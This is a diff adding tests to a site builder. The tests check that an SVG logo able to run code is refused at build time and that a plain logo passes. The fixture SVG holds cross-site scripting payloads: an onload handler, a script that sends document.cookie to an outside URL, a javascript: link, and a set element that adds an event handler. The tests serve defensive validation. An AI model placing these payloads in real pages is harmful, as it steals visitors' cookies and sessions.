@@ -165,3 +165,41 @@ def test_search_and_live_reload_work_under_the_policy(preview):
         browser.close()
     assert fonts, "the site's own fonts load"
     assert problems == [], problems  # a script, style or font the policy blocked is a console error
+
+
+# --- SVG logos are published with the site: nothing in them may run --------------------------------
+
+EVIL_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"
+     onload="alert(document.cookie)">
+  <script>fetch('https://example.com/?' + document.cookie)</script>
+  <a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>
+  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
+  <image href="https://tracker.example/pixel.png"/>
+  <set attributeName="onmouseover" to="alert(1)"/>
+</svg>
+"""
+
+
+def test_an_svg_logo_that_could_run_code_is_refused_at_build_time(tmp_path, capsys):
+    from mentorbook.cli import main
+    from conftest import EXAMPLE_PROGRAM
+
+    project = tmp_path / "program"
+    shutil.copytree(EXAMPLE_PROGRAM, project)
+    logo = project / "assets" / "harbor-view-logo.svg"
+    logo.write_text(EVIL_LOGO, encoding="utf-8")
+    assert main(["build", "--project", str(project), "--out", str(tmp_path / "out"), "--format", "html", "-q"]) == 2
+    err = capsys.readouterr().err
+    for where, what in (("1:1", "<svg> has an event handler, onload"), ("3:3", "<script> element"),
+                        ("4:3", "<a> has javascript: in its href"), ("5:3", "<foreignObject> element"),
+                        ("6:3", "links to 'https://tracker.example/pixel.png'"),
+                        ("7:3", "<set> changes 'onmouseover'")):
+        assert f"{logo}:{where}: error: " in err and what in err, (where, what, err)
+    assert not (tmp_path / "out" / "site").exists(), "nothing published"
+
+
+def test_a_plain_svg_logo_is_welcome():
+    from mentorbook.base.markup import svg_problems
+    from conftest import EXAMPLE_PROGRAM
+
+    assert svg_problems(EXAMPLE_PROGRAM / "assets" / "harbor-view-logo.svg") == []
